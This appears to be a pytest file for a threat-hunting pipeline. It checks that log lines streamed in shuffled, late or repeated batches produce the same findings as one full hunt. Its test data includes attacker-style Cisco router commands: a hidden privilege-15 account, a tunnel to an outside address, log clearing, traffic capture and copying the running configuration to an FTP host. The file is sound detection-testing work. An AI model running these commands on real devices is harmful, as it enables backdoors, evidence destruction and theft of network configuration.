"""What the stream tells comes to what a hunt over everything tells, whatever came late or twice."""

from __future__ import annotations

import random
from dataclasses import replace
from pathlib import Path

import pytest

from seawall import pipeline
from seawall.drills.play import play
from seawall.drills.scenario import builtin
from seawall.model.case import open_case
from seawall.model.finding import Finding, finding_to_dict
from seawall.model.notifying import DetectSettings
from seawall.model.settings import Settings
from seawall.model.site import load_site
from seawall.pipeline.streaming import Stream
from tests.pipeline.hunting import CLOCK, line


def stream(folder: Path, **settings: object) -> Stream:
    asked = Settings(**settings)  # type: ignore[arg-type]
    return Stream(pipeline.HuntRequest(case=open_case(folder, CLOCK), settings=asked, clock=CLOCK, jobs=1))


def kept(folder: Path) -> list[Finding]:
    with pipeline.case_state(open_case(folder, CLOCK), Settings()) as state:
        return state.findings()


def hunted(folder: Path, paths: list[Path]) -> list[dict[str, object]]:
    request = pipeline.HuntRequest(case=open_case(folder, CLOCK), paths=tuple(paths), clock=CLOCK, jobs=1)
    done = next(step for step in pipeline.hunt(request) if isinstance(step, pipeline.Hunted))
    return [finding_to_dict(replace(finding, replaces=None)) for finding in done.findings]


COMMANDS = (
    "configure terminal",
    "username cisco_sys_mgr privilege 15 secret 9 x",
    "interface Tunnel77",
    "tunnel destination 198.51.100.24",
    "show running-config",
    "clear logging",
    "monitor capture CAP interface Gi0/0 both",
    "copy running-config ftp://198.51.100.24/x",
)


@pytest.fixture
def batches(tmp_path: Path) -> list[Path]:
    """Lines of an hour in six files, the earliest line in the last."""
    lines = [line(minute, COMMANDS[minute % len(COMMANDS)]) for minute in range(2, 50)]
    random.Random(5).shuffle(lines)
    lines.append(line(1, "clear logging"))
    made = []
    for number in range(7):
        path = tmp_path / "spool" / f"{number:04d}.log"
        path.parent.mkdir(exist_ok=True)
        path.write_text("".join(lines[number * 7 : (number + 1) * 7]), encoding="utf-8")
        made.append(path)
    return made


def test_what_came_shuffled_late_and_twice_ends_as_a_hunt_over_everything(tmp_path: Path, batches: list[Path]) -> None:
    told: list[str] = []
    for path in batches:
        looking = stream(tmp_path / "live")  # a restart before every batch: nothing is held that it would miss
        told += [finding.id for finding in looking.take([path]).new]
        assert not looking.take([path]).new, "the same file again tells nothing"
    told += [finding.id for finding in looking.settle().new]
    assert len(told) == len(set(told)), "no finding is told twice"
    assert told, "alarms come before all is settled"
    live = [finding_to_dict(replace(finding, replaces=None)) for finding in kept(tmp_path / "live")]
    assert live == hunted(tmp_path / "again", batches)


def test_late_lines_grow_a_finding_backwards_and_what_does_not_hold_any_more_is_withdrawn(tmp_path: Path) -> None:
    late, early = tmp_path / "late.log", tmp_path / "early.log"
    late.write_text(line(30, "clear logging"), encoding="utf-8")
    early.write_text(line(10, "clear logging"), encoding="utf-8")
    looking = stream(tmp_path / "case")
    (first,) = looking.take([late]).new
    assert not looking.take([early]).new, "it goes on with what is known"
    wrong, other = replace(first, id="f" * 32, subject="wrong"), replace(first, id="e" * 32, detector="mail.lure")
    with pipeline.case_state(open_case(tmp_path / "case", CLOCK), Settings()) as state:
        state.save_findings([wrong, other])
    settled = looking.settle()
    (now,) = [finding for finding in kept(tmp_path / "case") if finding.detector == first.detector]
    assert (now.count, now.replaces in (first.id, wrong.id)) == (2, True)
    assert now.id in {finding.id for finding in settled.new}
    assert wrong.id in settled.withdrawn
    assert other.id in {finding.id for finding in kept(tmp_path / "case")}, "another hand's finding stays"


def test_what_lies_before_the_look_back_is_neither_withdrawn_nor_told_again(tmp_path: Path) -> None:
    path, later = tmp_path / "a.log", tmp_path / "b.log"
    path.write_text(line(30, "clear logging"), encoding="utf-8")
    later.write_text(line(10, "clear logging").replace("Nov 21", "Nov 25"), encoding="utf-8")
    looking = stream(tmp_path / "case", detect=DetectSettings(look_back_days=1.0))
    before = {finding.id for finding in looking.take([path]).new}
    looking.take([later])
    settled = looking.settle()
    assert not settled.withdrawn
    assert before <= {finding.id for finding in kept(tmp_path / "case")}


def test_nothing_new_is_nothing_told(tmp_path: Path) -> None:
    path = tmp_path / "a.log"
    path.write_text(line(30, "show version"), encoding="utf-8")
    looked = stream(tmp_path / "case").take([path])
    assert (looked.events, looked.new, looked.incidents) == (1, (), None)


@pytest.mark.soak
def test_the_demo_carrier_streamed_in_shuffled_pieces_ends_as_one_hunt(tmp_path: Path) -> None:
    """Full figures: run make soak."""
    played = builtin()
    play(played, tmp_path / "evidence", 7)
    site = load_site(tmp_path / "evidence.site.toml")
    (tmp_path / "flat").mkdir()
    for path in sorted(path for path in (tmp_path / "evidence").rglob("*") if path.is_file()):
        # Flat, as a spool is: an origin tells the path within what was given, which differs from batch to batch.
        path.rename(tmp_path / "flat" / "_".join(path.relative_to(tmp_path / "evidence").parts))
    files = sorted((tmp_path / "flat").iterdir())
    random.Random(7).shuffle(files)

    def request(name: str, *paths: Path) -> pipeline.HuntRequest:
        case = open_case(tmp_path / name, CLOCK)
        return pipeline.HuntRequest(case=case, paths=paths, site=site, clock=CLOCK, jobs=1)

    told: list[str] = []
    for start in range(0, len(files), 10):
        looking = Stream(request("live"))
        told += [finding.id for finding in looking.take(files[start : start + 10]).new]
        if start % 50 == 0:
            told += [finding.id for finding in looking.settle().new]
    told += [finding.id for finding in Stream(request("live")).settle().new]
    assert len(told) == len(set(told))
    done = next(step for step in pipeline.hunt(request("again", *files)) if isinstance(step, pipeline.Hunted))
    live = [finding_to_dict(replace(finding, replaces=None)) for finding in kept(tmp_path / "live")]
    assert live == [finding_to_dict(replace(finding, replaces=None)) for finding in done.findings]
    assert len(live) > 100
